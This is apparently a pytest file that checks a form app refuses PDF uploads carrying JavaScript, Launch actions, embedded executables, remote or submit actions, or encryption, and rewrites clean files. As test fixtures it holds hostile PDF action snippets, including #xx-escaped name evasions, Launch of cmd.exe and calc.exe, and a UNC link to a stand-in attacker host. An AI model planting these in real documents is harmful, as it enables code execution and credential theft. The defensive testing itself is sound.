"""PDFs are opened, refused when encrypted, active (SEC-19) or reaching outside the file, and written anew."""

from __future__ import annotations

import io

import pikepdf
import pytest

from formbuilder.attachments import accept
from formbuilder.attachments.stores import store_for

from . import files

pytestmark = pytest.mark.usefixtures("in_app")


def test_a_clean_pdf_is_accepted_and_rewritten():
    original = files.pdf() + b"<script>alert(1)</script>"  # trailing data after %%EOF
    result = accept("住民票.pdf", io.BytesIO(original))
    assert (result.kind, result.media_type, result.name) == ("pdf", "application/pdf", "住民票.pdf")
    data = store_for(result.store).read(result.key)
    assert data.startswith(b"%PDF-") and b"<script>" not in data
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == 1


@pytest.mark.parametrize(
    ("change", "value", "names"),
    [
        ("open_action_js", "app.alert('x')", {"/OpenAction", "/JavaScript", "/JS"}),
        ("names_js", "this.submitForm('https://example.invalid')", {"/JavaScript", "/JS"}),
        ("page_launch", "cmd.exe", {"/AA", "/Launch"}),
        ("embedded", files.MZ, {"/EmbeddedFiles", "/EmbeddedFile"}),
        ("xfa", "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>", {"/XFA"}),
    ],
)
def test_a_pdf_with_active_content_is_refused(change, value, names):
    result = accept("form.pdf", io.BytesIO(files.pdf(**{change: value})))
    assert result.reason == "pdf_active_content"
    assert set(result.params["found"].split(", ")) == names
    assert result.message == "＊form.pdf にはスクリプトや埋め込みファイルが含まれているため添付できません。"


@pytest.mark.parametrize(
    "hidden",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /Java#53cript /JS (app.alert(1)) >>",  # a name spelt with #xx escapes
        b"<< /Type /Action /S /RichMedia >>",
        b"[ << /Nested << /Deeper << /Launch (calc.exe) >> >> >> ]",
        b"<< /S /GoTo#52 /F (\\\\\\\\attacker.invalid\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        b"<< /S /U#52I /U#52I (javascript:app.alert(1)) >>",
    ],
)
def test_active_content_is_found_even_where_nothing_refers_to_it(hidden):
    result = accept("hidden.pdf", io.BytesIO(files.raw_pdf(hidden)))
    assert result.reason == "pdf_active_content"


# What each action of files.REMOTE_ACTIONS is found as, and what its place adds.
REMOTE_FOUND = {
    "GoToR": {"/GoToR"},
    "GoToE": {"/GoToE"},
    "ImportData": {"/ImportData"},
    "SubmitForm": {"/SubmitForm", "/URL"},
    "Launch": {"/Launch"},
    "URI https": {"/URI"},
    "URI javascript": {"/URI"},
}
PLACES = {"link_action": set(), "open_action": {"/OpenAction"}, "page_open_action": {"/AA"}}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("kind", REMOTE_FOUND)
def test_a_pdf_with_an_action_that_reaches_outside_it_is_refused(kind, place):
    result = accept("statement.pdf", io.BytesIO(files.pdf(**{place: kind})))
    assert result.reason == "pdf_active_content"
    assert set(result.params["found"].split(", ")) == REMOTE_FOUND[kind] | PLACES[place]
    assert result.message == "＊statement.pdf にはスクリプトや埋め込みファイルが含まれているため添付できません。"


def test_links_within_the_document_are_accepted_and_kept():
    result = accept("目次.pdf", io.BytesIO(files.pdf(internal_links=2)))
    assert result.kind == "pdf", result
    with pikepdf.open(io.BytesIO(store_for(result.store).read(result.key))) as pdf:
        assert len(pdf.pages) == 3
        goto, dest = pdf.pages[0].Annots
        assert str(goto.A.S) == "/GoTo" and goto.A.D[0].objgen == pdf.pages[2].obj.objgen
        assert dest.Dest[0].objgen == pdf.pages[1].obj.objgen


def test_a_hand_written_clean_pdf_is_accepted():
    assert accept("plain.pdf", io.BytesIO(files.raw_pdf(b"<< /Producer (scanner) >>"))).kind == "pdf"


@pytest.mark.parametrize("passwords", [("owner", "user"), ("owner", "")], ids=["open-password", "owner-only"])
def test_an_encrypted_pdf_is_refused(passwords):
    result = accept("locked.pdf", io.BytesIO(files.pdf(encrypt=passwords)))
    assert result.reason == "pdf_encrypted"
    assert "パスワード" in result.message and "locked.pdf" in result.message


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("broken.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 20),
        ("image.pdf", files.jpeg()),
        ("evil.pdf", files.MZ),
        ("page.pdf", files.HTML),
        ("polyglot.pdf", b"<html>" + files.pdf()),
        ("archive.pdf", files.zip_archive()),
    ],
)
def test_anything_that_is_not_really_a_pdf_is_refused_as_unreadable(name, data):
    result = accept(name, io.BytesIO(data))
    assert result.reason == "unreadable_pdf", result
    assert result.message == f"＊{name} はPDFとして読み込めませんでした。"
